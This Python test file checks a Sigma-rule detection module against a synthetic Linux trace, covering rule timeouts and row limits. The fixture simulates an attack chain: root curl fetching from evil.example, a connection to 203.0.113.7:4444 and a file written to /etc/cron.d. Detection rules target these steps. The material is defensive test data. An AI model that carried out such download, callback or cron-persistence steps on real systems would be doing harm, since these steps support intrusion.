"""Sigma rules asked of real and made-up traces."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from malkoha.model.event import Event
from malkoha.processing import sigma
from malkoha.processing.base import Earlier
from malkoha.processing.sigma import SigmaModule
from malkoha.rules import sets
from malkoha.rules.sigma import Converted
from malkoha.store import Home
from malkoha.trace.writer import write
from tests.unit.processing.folder import analysis

RULES = {
    "process": (
        "category: process_creation",
        "Image|endswith: /CURL\n    CommandLine|contains: evil\n    ParentImage|endswith: /bash\n    User: root",
    ),
    "regex": ("category: process_creation", "CommandLine|re: 'evil\\.exa.*x$'"),
    "file": ("category: file_event", "TargetFilename|startswith: /etc/cron.d/"),
    "network": (
        "category: network_connection",
        "DestinationIp: 203.0.113.7\n    DestinationPort: 4444\n    Initiated: 'true'",
    ),
    "audit_call": ("service: auditd", "type: SYSCALL\n    SYSCALL: memfd_create"),
    "audit_exec": ("service: auditd", "type: EXECVE\n    a0: curl\n    a1|contains: evil"),
    "audit_path": ("service: auditd", "type: PATH\n    name: /etc/cron.d/x\n    nametype: CREATE"),
    "keyword": ("definition: none", "- evil.example"),
    "absent_field": ("category: process_creation", "LogonId: '1'"),
    "other": ("category: process_creation", "Image|endswith: /wget"),
    "service": ("service: sshd", "- evil.example"),
    "slow": ("category: process_creation", "CommandLine|re: '(a+)+$b'"),
}


def event(seq: int, kind: Any, api: str = "", *, pid: int = 11, ret: int | None = 0, **args: Any) -> Event:
    return Event(
        seq=seq,
        kind=kind,
        time_ns=10**18 + seq,
        pid=pid,
        tid=pid,
        ppid=10,
        api=api,
        args=args,
        ret=ret,
        ret_text=str(ret),
    )


EVENTS = [
    event(1, "exec", filename="/bin/bash", exe="/usr/bin/bash", argv=["bash", "x.sh"], cwd="/root", uid=0),
    event(2, "fork", child_pid=12, child_tid=12, thread=False, child_ppid=11, uid=0),
    event(
        3,
        "exec",
        pid=12,
        filename="/bin/curl",
        exe="/usr/bin/curl",
        argv=["curl", "http://evil.example/x"],
        cwd="/root",
        uid=0,
    ),
    event(
        4,
        "syscall",
        "connect",
        pid=12,
        sockfd="3",
        addr={"sa_family": "AF_INET", "sin_addr": "203.0.113.7", "sin_port": "4444"},
        addrlen="16",
    ),
    event(
        5, "syscall", "openat", ret=3, dirfd="AT_FDCWD", pathname="/etc/cron.d/x", flags="O_WRONLY|O_CREAT", mode="0644"
    ),
    event(6, "syscall", "memfd_create", ret=4, name="x", flags="0"),
    event(
        7, "exec", pid=12, filename="/bin/echo", exe="/usr/bin/echo", argv=["echo", "a" * 40 + "!"], cwd="/root", uid=0
    ),
]


@pytest.fixture
def section(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    monkeypatch.setenv("MALKOHA_HOME", str(tmp_path / "home"))
    monkeypatch.setattr(sigma, "RULE_S", 1.0)
    folder = tmp_path / "mine"
    folder.mkdir()
    for name, (source, selection) in RULES.items():
        where = source if source != "definition: none" else ""
        text = (
            f"title: {name}\nlogsource:\n  product: linux\n  {where}\ndetection:\n  selection:\n    {selection}\n"
            "  condition: selection\nlevel: medium\ntags: [attack.t1105]\n"
        )
        (folder / f"{name}.yml").write_text(text)
    sets.add(Home(tmp_path / "home"), folder)
    facts = analysis(tmp_path)
    write(iter(EVENTS), facts.store.events)
    found: dict[str, Any] = SigmaModule().run(facts, Earlier({}))
    return found


def test_what_a_trace_can_answer_is_answered(section: dict[str, Any]) -> None:
    titles = {match["title"] for match in section["matches"]}
    assert titles == {"process", "regex", "file", "network", "audit_call", "audit_exec", "audit_path", "keyword"}
    assert section["without_table"] == 1
    match = next(match for match in section["matches"] if match["title"] == "process")
    assert (match["level"], match["severity"], match["attack"], match["count"]) == ("medium", 3, ["T1105"], 1)
    assert match["events"][0]["seq"] == 3
    assert match["events"][0]["fields"]["ParentImage"] == "/usr/bin/bash"


def test_a_rule_that_takes_too_long_is_stopped_and_named(section: dict[str, Any]) -> None:
    assert [error for error in section["errors"] if "slow" in error]


def test_rules_whose_turn_does_not_come_are_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sigma, "ALL_S", -1.0)
    rule = Converted(
        file="a.yml",
        id="",
        title="late",
        level="low",
        tags=[],
        description="",
        table="auditd",
        sql="SELECT 1",
        fields=[],
    )
    with closing(sqlite3.connect(":memory:")) as connection:
        matches, errors = sigma.ask(connection, [rule])
    assert matches == []
    assert errors[0].startswith("a.yml: late: not asked")


def test_without_rules_there_is_no_section(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MALKOHA_HOME", str(tmp_path / "home"))
    facts = analysis(tmp_path)
    write(iter(EVENTS), facts.store.events)
    assert not SigmaModule.applies(facts)


def test_rows_are_bounded_and_the_rest_counted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, section: dict[str, Any]
) -> None:
    assert section["rows_left_out"] == 0
    monkeypatch.setattr(sigma, "ROWS", 1)
    facts = analysis(tmp_path / "b")
    write(iter(EVENTS), facts.store.events)
    assert SigmaModule().run(facts, Earlier({}))["rows_left_out"] > 0
